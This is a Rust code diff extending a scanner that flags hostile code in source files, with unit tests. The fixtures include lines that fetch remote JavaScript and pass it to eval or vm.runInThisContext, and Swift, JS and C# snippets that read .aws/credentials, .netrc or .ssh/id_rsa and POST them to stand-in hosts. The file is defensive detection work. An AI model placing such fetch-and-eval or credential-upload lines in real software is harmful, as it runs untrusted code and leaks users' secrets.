@@ -281,17 +281,18 @@ pub fn harmful(path: &str, added: &str, home: &str) -> Vec<WrittenExecFact> {
 fn remote_eval(path: &str, lines: &[(String, String)], out: &mut Vec<WrittenExecFact>) {
     let mut tainted: Vec<String> = Vec::new();
     for (i, (f, raw)) in lines.iter().enumerate() {
+        // An eval handed over as a value on the fetch's own line (module docs); the chain's
+        // callbacks may hold `;` of their own.
+        if FETCH_CALLS.iter().any(|c| f.contains(c)) && eval_as_value(f) {
+            out.push(fact("fetched", path, i, raw));
+            return;
+        }
         // Statements of the line (`;`-separated), in order.
         for stmt in f.split(';') {
             if let Some(var) = assigned_from_fetch(stmt) {
                 if !tainted.contains(&var) && tainted.len() < 32 {
                     tainted.push(var);
                 }
-            }
-            // An eval handed over as a value in the fetch's own statement (module docs).
-            if FETCH_CALLS.iter().any(|c| stmt.contains(c)) && eval_as_value(stmt) {
-                out.push(fact("fetched", path, i, raw));
-                return;
             }
             for call in EVAL_CALLS {
                 for (at, _) in stmt.match_indices(call).take(4) {
@@ -326,14 +327,19 @@ fn remote_eval(path: &str, lines: &[(String, String)], out: &mut Vec<WrittenExec
 /// `(eval, …)`, `.then(function)` is not (a keyword there starts a literal), `(Function)` is.
 fn eval_as_value(stmt: &str) -> bool {
     let compact: String = stmt.chars().filter(|c| !c.is_whitespace()).collect();
-    ["eval", "runinthiscontext", "runinnewcontext"]
-        .iter()
-        .any(|e| {
-            [format!("({e})"), format!("({e},"), format!(",{e})")]
-                .iter()
-                .any(|p| compact.contains(p.as_str()))
-        })
-        || compact.contains("(function)")
+    [
+        "eval",
+        "runinthiscontext",
+        "runinnewcontext",
+        "vm.runinthiscontext",
+        "vm.runinnewcontext",
+    ]
+    .iter()
+    .any(|e| {
+        [format!("({e})"), format!("({e},"), format!(",{e})")]
+            .iter()
+            .any(|p| compact.contains(p.as_str()))
+    }) || compact.contains("(function)")
 }
 
 /// The variable a statement assigns from a fetch call (`$f = wp_remote_get(…)`, `code =
@@ -646,6 +652,90 @@ mod tests {
             ("/p/src/run.js", "eval(await (await fetch(process.env.PLUGIN_URL)).text())"),
         ] {
             assert_eq!(kinds(p, t), ["fetched"], "{t}");
+        }
+    }
+
+    #[test]
+    fn evals_handed_over_as_values_after_a_fetch() {
+        // code27: written variants (not the corpus rows)
+        for (p, t) in [
+            ("/p/src/bot.ts", "setTimeout(() => fetch(PLUGIN_URL).then(r => r.text()).then(eval), 5000);"),
+            ("/p/src/ext.js", "fetch('https://x.example/u.js').then(function (r) { return r.text(); }).then( eval );"),
+            ("/p/src/w.mjs", "await fetch(u).then((r) => r.text()).then(Function).then((f) => f());"),
+            ("/p/src/vm.js", "axios.get(src).then(r => r.data).then(vm.runInThisContext);"),
+        ] {
+            assert_eq!(kinds(p, t), ["fetched"], "{t}");
+        }
+        // Promise chains that hand over other functions stay quiet.
+        for (p, t) in [
+            (
+                "/p/src/api.ts",
+                "fetch(u).then(r => r.json()).then(evaluate).then(render);",
+            ),
+            (
+                "/p/src/a.js",
+                "fetch(u).then(r => r.text()).then(console.log);",
+            ),
+            ("/p/src/b.js", "items.map(eval_row);"),
+        ] {
+            assert!(kinds(p, t).is_empty(), "{t}: {:?}", kinds(p, t));
+        }
+    }
+
+    #[test]
+    fn credentials_below_a_computed_home_sent() {
+        for (p, t) in [
+            ("/p/Sources/Tool/Sync.swift", "let h = FileManager.default.homeDirectoryForCurrentUser\nlet d = try? Data(contentsOf: h.appendingPathComponent(\".aws/credentials\"))\nvar q = URLRequest(url: URL(string: \"https://x.example/s\")!)\nq.httpBody = d"),
+            ("/p/tools/up.js", "const f = path.join(os.homedir(), '.netrc');\nconst body = fs.readFileSync(f);\nfetch('https://x.example/n', { method: 'POST', body });"),
+            ("/p/Tools/Report.cs", "var h = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);\nvar k = File.ReadAllText(Path.Combine(h, \".ssh/id_rsa\"));\nawait client.PostAsync(\"https://x.example/r\", new StringContent(k));"),
+        ] {
+            assert_eq!(kinds(p, t), ["beacon"], "{t}");
+        }
+        // A home-relative settings file next to an API call is everyday code.
+        for (p, t) in [
+            ("/p/Sources/App/Config.swift", "let h = FileManager.default.homeDirectoryForCurrentUser\nlet cfg = h.appendingPathComponent(\".config/app/settings.json\")\nvar r = URLRequest(url: URL(string: \"https://api.example.com/v1\")!)"),
+            ("/p/src/cache.js", "const dir = path.join(os.homedir(), '.cache', 'app');\nfetch('https://api.example.com/items', { method: 'POST', body: '{}' });"),
+        ] {
+            assert!(kinds(p, t).is_empty(), "{t}: {:?}", kinds(p, t));
+        }
+    }
+
+    #[test]
+    fn unsigned_update_feed_enclosures() {
+        for (p, t) in [
+            ("/p/Sparkle/appcast.xml", "<item><enclosure url=\"https://dl.example.net/App-3.1.zip\" sparkle:edSignature=\"\" length=\"0\"/></item>"),
+            ("/p/site/appcast-beta.xml", "<enclosure url='https://cdn.example.org/App.dmg' length='123' type='application/octet-stream'/>"),
+            ("/p/docs/feed.xml", "<rss xmlns:sparkle=\"http://www.andymatuschak.org/xml-namespaces/sparkle\">\n<enclosure url=\"https://m.example.io/A.pkg\" length=\"1\"/>"),
+        ] {
+            assert_eq!(kinds(p, t), ["update_feed"], "{t}");
+        }
+        for (p, t) in [
+            ("/p/Sparkle/appcast.xml", "<enclosure url=\"https://dl.example.net/App-3.1.zip\" sparkle:edSignature=\"pQ9m2Vc6a1d==\" length=\"9\"/>"),
+            ("/p/Sparkle/appcast.xml", "<enclosure url=\"https://dl.example.net/App-1.zip\" sparkle:dsaSignature=\"MC0CFQ==\" length=\"9\"/>"),
+            // A podcast feed's enclosures are no app updates.
+            ("/p/public/podcast.xml", "<rss><item><enclosure url=\"https://cdn.example.org/ep1.mp3\" length=\"1\" type=\"audio/mpeg\"/></item></rss>"),
+        ] {
+            assert!(kinds(p, t).is_empty(), "{t}: {:?}", kinds(p, t));
+        }
+    }
+
+    #[test]
+    fn pages_loading_scripts_from_unknown_hosts() {
+        for (p, t) in [
+            ("/p/app/layout.tsx", "<Script src=\"https://cdn.claim-widgets.example/c.js\" strategy=\"beforeInteractive\" />"),
+            ("/p/index.html", "<script async src='//tracker.example-metrics.net/t.js'></script>"),
+            ("/p/src/App.vue", "<script src=\"http://203.0.113.7/x.js\"></script>"),
+        ] {
+            assert_eq!(kinds(p, t), ["external_script"], "{t}");
+        }
+        for (p, t) in [
+            ("/p/app/layout.tsx", "<Script src=\"https://www.googletagmanager.com/gtag/js?id=G-1\" />"),
+            ("/p/index.html", "<script src=\"/assets/app.js\"></script><script src=\"https://js.stripe.com/v3/\"></script>"),
+            ("/p/index.html", "<script src=\"https://cdn.jsdelivr.net/npm/alpinejs@3/dist/cdn.min.js\" defer></script>"),
+            ("/p/index.html", "<script type=\"module\">import { x } from './x.js'</script>"),
+            ("/p/README.md", "<script src=\"https://unknown.example/x.js\"></script>"),
+        ] {
+            assert!(kinds(p, t).is_empty(), "{t}: {:?}", kinds(p, t));
         }
     }
 
